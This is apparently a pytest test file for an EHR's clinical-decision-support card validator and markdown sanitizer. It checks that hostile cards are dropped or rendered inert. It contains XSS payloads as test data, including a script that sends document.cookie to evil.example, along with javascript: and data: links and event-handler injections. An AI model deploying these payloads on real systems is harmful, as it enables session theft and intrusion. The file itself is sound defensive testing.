"""ehr.cards and ehr.markdown: strict response validation, per-card drops, caps, and sanitizing.

Attacks a hostile CDS Service can mount through a card (R1, R2): script in detail, javascript:
and data: links, HTML in the summary, event-handler attributes, links to unlisted hosts,
smart links to unregistered apps. Each is shown to come out inert.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from ehr.cards import CardValidator, ResponseError, needs_smart_urls
from ehr.markdown import MarkdownRenderer, escape_text

SMART = "https://localhost:9004/launch"


def validator(max_cards: int = 20, hosts: tuple[str, ...] = ("www.cdc.gov", "example.org")) -> CardValidator:
    return CardValidator(MarkdownRenderer(hosts), max_cards=max_cards)


def load(fixtures_dir: Path, name: str) -> Any:
    return json.loads((fixtures_dir / "cds-hooks" / name).read_text())


def card(**changes: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "uuid": "c1",
        "summary": "Potassium is high",
        "indicator": "warning",
        "source": {"label": "Lab checker", "url": "https://example.org/lab"},
    }
    base.update(changes)
    return base


# --- the samples ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "count"),
    [
        ("cdshooks-response-good.json", 2),
        ("cdshooks-response-empty-good.json", 0),
        ("cdshooks-response-empty.json", 0),
        ("cdshooks-response-link.json", 1),
        ("cdshooks-response-no-link.json", 1),
        ("cdshooks-response-source-link.json", 1),
        ("cdshooks-response-suggestion.json", 1),
        ("cdshooks-response-two-cards.json", 2),
    ],
)
def test_the_valid_response_samples_keep_every_card(fixtures_dir: Path, name: str, count: int) -> None:
    result = validator().validate(load(fixtures_dir, name), smart_urls={"https://smart.example.com/launch"})
    assert len(result.cards) == count
    assert result.dropped == []


@pytest.mark.parametrize("name", ["cdshooks-response-empty-bad.json", "cdshooks-response-empty2.json"])
def test_a_response_without_cards_is_refused(fixtures_dir: Path, name: str) -> None:
    with pytest.raises(ResponseError, match="no cards array"):
        validator().validate(load(fixtures_dir, name))


def test_a_card_whose_source_has_no_label_is_dropped_with_the_reason(fixtures_dir: Path) -> None:
    result = validator().validate(load(fixtures_dir, "cdshooks-response-empty-source.json"))
    assert result.cards == []
    assert [(d.index, d.reason) for d in result.dropped] == [(0, "source.label: Field required")]


def test_the_good_sample_keeps_its_fields_and_renders_detail(fixtures_dir: Path) -> None:
    result = validator(hosts=("google.com", "github.com")).validate(
        load(fixtures_dir, "cdshooks-response-good.json"), smart_urls={"https://smart.example.com/launch"}
    )
    first, second = result.cards
    assert first["uuid"] == "4e0a3a1e-3283-4575-ab82-028d55fe2719"
    assert [link["type"] for link in first["links"]] == ["absolute", "absolute", "smart"]
    assert first["links"][2]["appContext"] == '{"session":3456356,"settings":{"module":4235}}'
    assert first["detailHtml"] == "<p>This is an example card.</p>\n"
    assert [r["display"] for r in second["overrideReasons"]] == ["Patient refused", "Contraindicated"]


def test_suggestions_without_selection_behavior_are_treated_as_at_most_one(fixtures_dir: Path) -> None:
    result = validator().validate(load(fixtures_dir, "cdshooks-response-suggestion.json"))
    assert result.cards[0]["selectionBehavior"] == "at-most-one"
    assert "card 0: suggestions without selectionBehavior: treated as at-most-one" in result.notes


def test_a_summary_of_140_characters_or_more_is_shortened_below_140(fixtures_dir: Path) -> None:
    sample = load(fixtures_dir, "cdshooks-response-source-link.json")
    original = sample["cards"][0]["summary"]
    assert len(original) >= 140
    result = validator().validate(sample)
    shortened = result.cards[0]["summary"]
    assert len(shortened) == 139
    assert shortened == original[:138] + "…"
    assert result.notes == ["card 0: summary longer than 139 characters: shortened"]
    exact = validator().validate({"cards": [card(summary="y" * 139)]})
    assert exact.cards[0]["summary"] == "y" * 139 and exact.notes == []


def test_images_in_detail_never_load() -> None:
    html = MarkdownRenderer(["example.org"]).render("![pixel](https://example.org/track.gif)")
    assert "<img" not in html


# --- per-card rules ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        (
            {"selectionBehavior": "all-or-nothing", "suggestions": [{"label": "x"}]},
            "selectionBehavior: Input should be",
        ),
        ({"summary": "x" * 1025}, "summary: String should have at most 1024 characters"),
        ({"summary": ""}, "summary: String should have at least 1 character"),
        ({"summary": "two\nlines"}, "summary: summary is one line of plain text"),
        ({"indicator": "hard-stop"}, "indicator: Input should be 'info', 'warning' or 'critical'"),
        ({"source": "Lab"}, "source: Input should be a valid dictionary"),
        ({"uuid": 7}, "uuid: Input should be a valid string"),
        ({"links": [{"label": "x", "url": "https://example.org", "type": "iframe"}]}, "links.0.type: Input should be"),
        (
            {"links": [{"label": "x", "url": "https://example.org", "type": "absolute", "appContext": "{}"}]},
            "links.0: appContext is only allowed on smart links",
        ),
        (
            {
                "suggestions": [{"label": "x", "actions": [{"type": "create", "description": "d"}]}],
                "selectionBehavior": "any",
            },
            "suggestions.0.actions.0: a create action needs a FHIR resource",
        ),
        (
            {
                "suggestions": [{"label": "x", "actions": [{"type": "delete", "description": "d"}]}],
                "selectionBehavior": "any",
            },
            "suggestions.0.actions.0: a delete action needs resourceId",
        ),
        ({"overrideReasons": [{"code": "x"}]}, "overrideReasons.0.display: Field required"),
    ],
)
def test_an_invalid_card_is_dropped_with_its_reason_and_the_others_are_kept(
    changes: dict[str, Any], reason: str
) -> None:
    body = {"cards": [card(uuid="ok-1"), card(**changes), card(uuid="ok-2")]}
    result = validator().validate(body)
    assert [c["uuid"] for c in result.cards] == ["ok-1", "ok-2"]
    assert len(result.dropped) == 1
    assert result.dropped[0].index == 1
    assert result.dropped[0].reason.startswith(reason)


def test_cards_beyond_the_cap_are_dropped() -> None:
    body = {"cards": [card(uuid=f"c{i}") for i in range(25)]}
    result = validator(max_cards=20).validate(body)
    assert [c["uuid"] for c in result.cards] == [f"c{i}" for i in range(20)]
    assert [(d.index, d.reason) for d in result.dropped] == [(i, "more than 20 cards") for i in range(20, 25)]


def test_an_invalid_card_does_not_count_towards_the_cap() -> None:
    body = {"cards": [card(indicator="bogus"), card(uuid="a"), card(uuid="b")]}
    result = validator(max_cards=2).validate(body)
    assert [c["uuid"] for c in result.cards] == ["a", "b"]


@pytest.mark.parametrize("body", [[], "cards", None, {"cards": {}}, {"cards": [], "systemActions": {}}])
def test_a_body_that_is_not_a_response_is_refused(body: Any) -> None:
    with pytest.raises(ResponseError):
        validator().validate(body)


def test_invalid_system_actions_are_dropped_and_valid_ones_kept() -> None:
    good = {"type": "update", "description": "mark reviewed", "resource": {"resourceType": "Task", "id": "t"}}
    body = {"cards": [], "systemActions": [good, {"type": "execute", "description": "rm -rf"}]}
    result = validator().validate(body)
    assert result.system_actions == [good]
    assert result.notes[0].startswith("systemActions[1] dropped: type: Input should be")


# --- sanitizing -------------------------------------------------------------------------------


def test_script_in_detail_is_rendered_as_text() -> None:
    detail = "Check <script>fetch('https://evil.example/'+document.cookie)</script> **now**"
    result = validator().validate({"cards": [card(detail=detail)]})
    html = result.cards[0]["detailHtml"]
    assert "<script" not in html
    assert "&lt;script&gt;" in html
    assert "<strong>now</strong>" in html


@pytest.mark.parametrize(
    "detail",
    [
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<iframe src=https://evil.example></iframe>",
        '<div onmouseover="alert(1)">hover</div>',
        "<svg/onload=alert(1)>",
    ],
)
def test_raw_html_in_detail_never_becomes_markup(detail: str) -> None:
    html = MarkdownRenderer(["example.org"]).render(detail)
    assert "<img" not in html and "<a" not in html and "<iframe" not in html and "<div" not in html
    assert "<svg" not in html
    assert html.startswith("<p>&lt;")


@pytest.mark.parametrize(
    "link",
    [
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:msgbox)",
        "[click](http://example.org/plain-http)",
        "[click](https://evil.example/phish)",
        "[click](https://example.org.evil.example/)",
        "[click](https://user:pw@example.org/)",
        "[click](//example.org/protocol-relative)",
        "<javascript:alert(1)>",
        "![pixel](https://evil.example/track.gif)",
    ],
)
def test_links_other_than_https_to_listed_hosts_are_rendered_as_plain_text(link: str) -> None:
    html = MarkdownRenderer(["example.org"]).render(f"see {link}")
    assert "<a " not in html
    assert "<img" not in html
    assert "href" not in html
    assert "click" in html or "pixel" in html or "javascript" in html  # the text itself is kept


def test_an_https_link_to_a_listed_host_stays_a_safe_link() -> None:
    html = MarkdownRenderer(["example.org"]).render("[guideline](https://example.org/g?a=1&b=2)")
    assert (
        html == '<p><a href="https://example.org/g?a=1&amp;b=2" rel="noopener noreferrer nofollow">guideline</a></p>\n'
    )


def test_html_in_the_summary_is_kept_as_text_and_escaped_for_html() -> None:
    summary = '<img src=x onerror="alert(1)"> & <b>'
    result = validator().validate({"cards": [card(summary=summary)]})
    out = result.cards[0]
    assert out["summary"] == summary  # plain text, for textContent
    assert out["summaryHtml"] == "&lt;img src=x onerror=&quot;alert(1)&quot;&gt; &amp; &lt;b&gt;"
    assert escape_text("<script>") == "&lt;script&gt;"


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "http://example.org/x", "ftp://x/y"]
)
def test_card_links_that_are_not_https_are_removed(url: str) -> None:
    links = [
        {"label": "bad", "url": url, "type": "absolute"},
        {"label": "ok", "url": "https://example.org/x", "type": "absolute"},
    ]
    result = validator().validate({"cards": [card(links=links)]})
    assert result.cards[0]["links"] == [{"label": "ok", "url": "https://example.org/x", "type": "absolute"}]
    assert result.notes == ["card 0: link 0 removed: only https links are allowed"]


def test_an_absolute_link_to_a_host_off_the_allow_list_is_removed() -> None:
    # Argonaut R2: a service must not send the clinician wherever it likes (a phishing page
    # dressed as a guideline); only configured hosts and the answering service's own host.
    links = [
        {"label": "phish", "url": "https://login.evil.example/ehr", "type": "absolute"},
        {"label": "lookalike", "url": "https://example.org.evil.example/x", "type": "absolute"},
        {"label": "configured", "url": "https://example.org/g", "type": "absolute"},
        {"label": "own host", "url": "https://cds.example/info", "type": "absolute"},
    ]
    body = {"cards": [card(links=links, detail="[own](https://cds.example/a) [evil](https://evil.example/b)")]}
    result = validator().validate(body, link_hosts=("cds.example",))
    assert [link["label"] for link in result.cards[0]["links"]] == ["configured", "own host"]
    assert result.notes == [
        "card 0: link 0 removed: host not on the EHR's link allow-list",
        "card 0: link 1 removed: host not on the EHR's link allow-list",
    ]
    assert 'href="https://cds.example/a"' in result.cards[0]["detailHtml"]
    assert 'href="https://evil.example' not in result.cards[0]["detailHtml"]
    # Without the service's host passed, its own links go too: the allow-list is per answer.
    alone = validator().validate(copy.deepcopy(body))
    assert [link["label"] for link in alone.cards[0]["links"]] == ["configured"]
    assert 'href="https://cds.example' not in alone.cards[0]["detailHtml"]


def test_a_smart_link_survives_only_when_it_is_a_registered_launch_url() -> None:
    links = [
        {"label": "registered", "url": SMART, "type": "smart", "appContext": "x"},
        {"label": "rogue", "url": "https://rogue.example/launch", "type": "smart"},
        {"label": "js", "url": "javascript:alert(1)", "type": "smart"},
    ]
    body = {"cards": [card(links=links)]}
    assert needs_smart_urls(body)
    result = validator().validate(body, smart_urls={SMART})
    assert result.cards[0]["links"] == [{"label": "registered", "url": SMART, "type": "smart", "appContext": "x"}]
    assert result.notes == [
        "card 0: link 1 removed: smart link to an app that is not registered",
        "card 0: link 2 removed: only https links are allowed",
    ]
    none_registered = validator().validate(copy.deepcopy(body))
    assert "links" not in none_registered.cards[0]


def test_source_url_and_icon_must_be_https() -> None:
    source = {"label": "S", "url": "javascript:alert(1)", "icon": "data:image/png;base64,AAAA"}
    result = validator().validate({"cards": [card(source=source)]})
    assert result.cards[0]["source"] == {"label": "S"}
    assert result.notes == [
        "card 0: source.url removed: not an https URL",
        "card 0: source.icon removed: not an https URL",
    ]


def test_unknown_members_are_not_echoed() -> None:
    result = validator().validate({"cards": [card(onclick="alert(1)", extension={"x": 1})]})
    assert "onclick" not in result.cards[0]
    assert result.cards[0]["extension"] == {"x": 1}


def test_a_card_repeating_an_earlier_cards_uuid_is_dropped() -> None:
    result = validator().validate({"cards": [card(uuid="u1"), card(uuid="u1", summary="other"), card(uuid="u2")]})
    assert [c["uuid"] for c in result.cards] == ["u1", "u2"]
    assert [(d.index, d.reason) for d in result.dropped] == [(1, "uuid repeats card 0")]


def test_a_card_whose_suggestions_share_a_uuid_is_dropped() -> None:
    # Otherwise the clinician clicks "Add a reminder" and the EHR applies the other suggestion's
    # actions (accepting names a suggestion by uuid).
    harmless = {"label": "Add a reminder", "uuid": "s1", "actions": []}
    harmful = {
        "label": "Stop warfarin",
        "uuid": "s1",
        "actions": [{"type": "delete", "description": "stop", "resourceId": "MedicationRequest/1"}],
    }
    result = validator().validate(
        {"cards": [card(uuid="c1", selectionBehavior="any", suggestions=[harmful, harmless]), card(uuid="c2")]}
    )
    assert [c["uuid"] for c in result.cards] == ["c2"]
    assert [(d.index, d.reason) for d in result.dropped] == [(0, "two suggestions share one uuid")]


@pytest.mark.parametrize("bad", ["a\u0000b", "line\nbreak", "x" * 129, ""])
def test_a_card_or_suggestion_uuid_must_be_short_printable_text(bad: str) -> None:
    suggestion = {"label": "Do it", "uuid": bad}
    result = validator().validate(
        {"cards": [card(uuid=bad), card(uuid="c2", selectionBehavior="any", suggestions=[suggestion]), card(uuid="c3")]}
    )
    assert [c["uuid"] for c in result.cards] == ["c3"]
    assert [d.index for d in result.dropped] == [0, 1]


def test_a_flood_of_tiny_cards_is_examined_only_up_to_a_bound_and_accounted_for() -> None:
    from ehr.cards import MAX_EXAMINED

    body = {"cards": [{} for _ in range(100_000)] + [card(uuid="late")], "systemActions": [{}] * 100_000}
    result = validator().validate(body)
    assert result.cards == []  # "late" is beyond what is examined
    assert len(result.dropped) == MAX_EXAMINED + 1
    summary = result.dropped[-1]
    assert summary.reason == f"{100_001 - MAX_EXAMINED} more cards not examined (over {MAX_EXAMINED})"
    assert f"systemActions beyond the first {MAX_EXAMINED} dropped unexamined" in result.notes
    assert len([n for n in result.notes if n.startswith("systemActions[")]) == MAX_EXAMINED


def test_a_card_with_an_oversized_detail_is_dropped_unrendered() -> None:
    from ehr.cards import MAX_DETAIL

    result = validator().validate({"cards": [card(uuid="big", detail="[" * (MAX_DETAIL + 1)), card(uuid="ok")]})
    assert [c["uuid"] for c in result.cards] == ["ok"]
    assert [d.index for d in result.dropped] == [0]
    assert result.dropped[0].reason.startswith("detail:")
